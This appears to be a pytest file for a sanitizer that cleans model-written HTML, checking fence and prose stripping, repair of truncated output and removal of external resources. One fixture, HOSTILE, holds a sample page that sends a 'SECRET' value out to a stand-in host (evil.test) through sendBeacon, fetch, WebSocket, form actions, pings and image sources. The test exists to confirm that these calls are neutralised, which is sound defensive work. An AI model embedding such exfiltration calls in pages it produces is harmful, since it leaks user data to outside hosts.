"""The HTML stage against what models really write."""

import re

import pytest
from bs4 import BeautifulSoup

from app.page.html import NO_HTML_FLAG, clean_model_output, placeholder_uri

DOC = ("<!DOCTYPE html><html><head><title>Login</title><style>body{margin:0}</style></head>"
       "<body><h1>Welcome Back!</h1></body></html>")

# (name, model output, text that must be in the result, text that must not, expected change)
CASES = [
    ("bare document", DOC, ["<h1>Welcome Back!</h1>"], [], None),
    ("fenced with prose", f"Sure! Here is the page:\n\n```html\n{DOC}\n```\n\nLet me know!",
     ["<h1>Welcome Back!</h1>"], ["Sure!", "Let me know"], None),
    ("fence without language", f"```\n{DOC}\n```", ["Welcome Back!"], ["```"], None),
    ("prose after </html>, no fence", f"{DOC}\nThis page uses flexbox.",
     ["Welcome Back!"], ["flexbox"], "dropped the text after </html>"),
    ("gemma thinking channel", f"<|channel>thought\nThe user wants <div>s<channel|>{DOC}",
     ["Welcome Back!"], ["thought", "<div>s"], "removed the model's thinking"),
    ("think tags", f"<think>plan: <html> first</think>\n```html\n{DOC}\n```",
     ["Welcome Back!"], ["plan:"], "removed the model's thinking"),
    ("two documents, second is the fix",
     "```html\n<html><body><p>draft</p></body></html>\n```\nOops, fixed:\n"
     "```html\n<html><body><p>final</p></body></html>\n```",
     ["<p>final</p>"], ["draft"], "2 HTML documents"),
    ("truncated mid-tag",
     "```html\n<!DOCTYPE html><html><head><style>.a{color:red}</style></head><body>"
     "<div class=\"card\"><p>Total: $40,000</p><span cla",
     ["<p>Total: $40,000</p></div></body></html>"], ["<span"], "cut off before </html>"),
    ("truncated inside CSS",
     "<html><head><style>body { margin: 0 }\n.card { padding: 12px; border: 1px so",
     ["</style>", ".card { padding: 12px"], [], "closed CSS rules"),
    ("truncated inside a comment", "<html><body><p>a</p><!-- side bar",
     ["<p>a</p>"], [], "unterminated comment"),
    ("html fragment plus a css block",
     "```html\n<div class=\"x\">Hi</div>\n```\nAnd the CSS:\n```css\n.x { color: red }\n```",
     ["<style>", ".x { color: red }", "<body><div class=\"x\">Hi</div>"], [],
     "separate CSS block"),
    ("external CDN links",
     "<html><head><link rel=\"stylesheet\" href=\"https://cdn.jsdelivr.net/bootstrap.css\">"
     "<link rel=\"preconnect\" href=\"https://fonts.gstatic.com\">"
     "<script src=\"https://cdn.tailwindcss.com\"></script>"
     "<style>@import url('https://fonts.googleapis.com/css2?family=Nunito');"
     "@font-face{font-family:X;src:url(https://x.test/x.woff2)}"
     ".hero{background:url(/img/hero.jpg)}</style></head>"
     "<body><img src=\"https://picsum.photos/200\" width=\"200\" height=\"120\" alt=\"team\">"
     "<div style=\"background-image:url('http://x.test/a.png')\">a</div>"
     "<iframe src=\"https://www.youtube.com/embed/x\" width=\"560\" height=\"315\"></iframe>"
     "</body></html>",
     ['alt="team"', "data:image/svg+xml", "width:560px;height:315px"],
     ["cdn.jsdelivr", "tailwindcss", "fonts.g", "x.test", "/img/hero.jpg", "picsum",
      "youtube", "@import", "@font-face"],
     "removed 1 external stylesheet"),
]


@pytest.mark.parametrize("name, text, present, absent, change", CASES, ids=[c[0] for c in CASES])
def test_model_outputs(name: str, text: str, present: list[str], absent: list[str],
                       change: str | None) -> None:
    out = clean_model_output(text)
    assert out.found_html
    assert out.html.startswith("<!DOCTYPE html>")
    for s in present:
        assert s in out.html
    for s in absent:
        assert s not in out.html
    if change:
        assert any(change in c for c in out.changes), out.changes
    soup = BeautifulSoup(out.html, "html.parser")
    assert soup.find("meta", charset=True) is not None
    assert soup.find("meta", attrs={"name": "viewport"}) is not None
    assert soup.head is not None and soup.body is not None


def test_nothing_external_survives() -> None:
    out = clean_model_output(CASES[-1][1])
    urls = re.findall(r"""(?:src|href)=["']([^"']+)""", out.html)
    urls += re.findall(r"url\(([^)]+)\)", out.html)
    assert urls and all(u.strip("'\"").startswith("data:") for u in urls)


def test_placeholder_keeps_declared_size() -> None:
    out = clean_model_output('<img src="https://x.test/a.png" style="width: 320px; height:90px">')
    assert placeholder_uri(320, 90) in out.html


def test_no_html_at_all_is_flagged_and_the_text_kept() -> None:
    out = clean_model_output("I'm sorry, I can't read that image. <maybe> try again?")
    assert not out.found_html
    assert NO_HTML_FLAG in out.html
    assert "I&#x27;m sorry, I can&#x27;t read that image. &lt;maybe&gt; try again?" in out.html
    assert any("no HTML" in c for c in out.changes)


def test_empty_answer() -> None:
    out = clean_model_output("")
    assert not out.found_html and "wrote nothing" in out.html


def test_gibberish_from_the_tiny_model_never_crashes() -> None:
    for text in ["}!htmzFTX<\x05", "<<<>>></div></html", "```html\n", "<html", "<!--"]:
        assert clean_model_output(text).html.startswith("<!DOCTYPE html>")


HOSTILE = """<!DOCTYPE html><html><head><title>Offers</title>
<meta http-equiv="refresh" content="5;url=http://{h}/refresh">
<base href="http://{h}/">
<link rel="preconnect" href="http://{h}/">
<style>.hero {{ background-image: image-set("http://{h}/set1.png" 1x, url(http://{h}/set2.png) 2x);
  height: 40px }}
.badge {{ background: -webkit-image-set(url('http://{h}/webkit.png') 1x) }}</style>
<script type="speculationrules">{{"prefetch": [{{"source": "list", "urls": ["http://{h}/spec"]}}]}}
</script>
</head><body>
<div class="hero"></div><span class="badge">new</span>
<picture><source srcset="http://{h}/pic.webp 1x, http://{h}/pic2.webp 2x">
<img alt="" width="40" height="30" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="
 srcset="http://{h}/img2x.png 2x"></picture>
<video src="data:video/mp4;base64,AAAA" poster="http://{h}/poster.jpg"></video>
<svg width="40" height="40"><image href="http://{h}/svg.png" width="20" height="20"/>
<image xlink:href="http://{h}/svgx.png" width="20" height="20"/>
<rect fill="url(http://{h}/paint.svg#g)" width="5" height="5"/><use href="http://{h}/sprite.svg#i"/>
</svg>
<iframe srcdoc="<img src='http://{h}/srcdoc.png'><iframe srcdoc=&quot;<img src='http://{h}/deep.png'>&quot;></iframe>"></iframe>
<a href="#top" ping="http://{h}/ping" id="top">top</a>
<table background="http://{h}/table.png"><tr><td>1</td></tr></table>
<form action="http://{h}/form"><input name="q" value="SECRET"><button formaction="http://{h}/f2">go</button></form>
<script>
navigator.sendBeacon('http://{h}/beacon', 'SECRET');
fetch('http://{h}/fetch').catch(() => {{}});
new Image().src = 'http://{h}/image';
try {{ new WebSocket('ws://{h}/ws'); }} catch (e) {{}}
document.getElementById('top').click();
</script>
</body></html>"""


def test_a_hostile_answer_keeps_no_live_reference() -> None:
    out = clean_model_output(HOSTILE.format(h="evil.test:81"))
    kept = [m.group(0) for m in re.finditer(r"evil\.test[^\s\"'<>)]*", out.html)]
    # what is left is script text, and the page's policy refuses every request a script makes
    assert all(kept_in_script for kept_in_script in (
        any(k in (s.string or "") for s in BeautifulSoup(out.html, "html.parser")("script"))
        for k in kept)), kept
    for change in ["removed 1 external speculation rule", "removed 2 external image source sets",
                   "removed 1 external ping", "removed 2 external form targets",
                   "removed 1 external SVG reference", "removed 2 external other references",
                   "replaced 2 external images with placeholders", "in a frame's inline document",
                   "a script uses WebSocket, fetch, new Image, sendBeacon",
                   "added a Content Security Policy"]:
        assert any(c.startswith(change) or change in c for c in out.changes), (change, out.changes)
    head = BeautifulSoup(out.html, "html.parser").head
    assert head is not None and head.find(True).get("http-equiv") == "Content-Security-Policy"


def test_the_exported_page_reaches_nothing_in_a_plain_browser() -> None:
    """Opened in a browser with no sandbox of ShotClone's, the raw answer reaches the canary
    (the control); the cleaned page, carrying its own policy, reaches nothing."""
    from tests.app.canary import Canary, open_in_plain_browser

    raw, clean = Canary(), Canary()
    try:
        open_in_plain_browser(HOSTILE.format(h=f"127.0.0.1:{raw.port}"), raw,
                              expect_contact=True)
        page = clean_model_output(HOSTILE.format(h=f"127.0.0.1:{clean.port}")).html
        open_in_plain_browser(page, clean, expect_contact=False)
        assert raw.touched
        assert not clean.touched, clean.seen
    finally:
        raw.close()
        clean.close()


def test_safe_references_stay() -> None:
    dot = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
    page = (f'<html><body><img src="{dot}" srcset="{dot} 1x, {dot} 2x">'
            f'<div style="background:image-set(url({dot}) 1x)"></div>'
            '<a href="https://example.test/docs">docs</a><svg><use href="#icon"/></svg>'
            '</body></html>')
    out = clean_model_output(page)
    assert f'srcset="{dot} 1x, {dot} 2x"' in out.html
    assert f"image-set(url({dot}) 1x)" in out.html
    assert 'href="https://example.test/docs"' in out.html and 'href="#icon"' in out.html
    assert not [c for c in out.changes if "external" in c], out.changes
